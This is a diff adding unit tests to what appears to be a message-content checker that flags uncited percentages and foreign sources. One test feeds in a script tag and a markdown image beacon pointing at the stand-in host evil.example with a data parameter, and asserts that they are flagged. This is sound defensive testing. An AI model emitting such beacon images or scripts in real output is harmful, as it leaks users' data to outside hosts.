@@ -113,3 +113,17 @@ def test_a_source_from_another_account_is_flagged() -> None:
     )
     findings = check("News [sig-bright-001].", ["sig-bright-001"], [PLAN, other])
     assert "foreign_account" in codes(findings)
+
+
+def test_small_counts_pass_but_small_percentages_do_not() -> None:
+    body = "Let us meet for 30 minutes within 2 weeks [acme-financial/metrics-vs-targets]."
+    assert check(body) == []
+    findings = check("Taxes rise 6% next year [acme-financial/metrics-vs-targets].")
+    assert [f.excerpt for f in findings] == ["6%"]
+
+
+def test_markup_and_beacon_images_are_flagged() -> None:
+    body = ("Hello <script>fetch('x')</script> ![a](https://evil.example/p.png?d=1) "
+            "[acme-financial/metrics-vs-targets]")
+    findings = [f for f in check(body) if f.code == "active_content"]
+    assert [f.excerpt for f in findings] == ["<script", "</script", "![a]("]
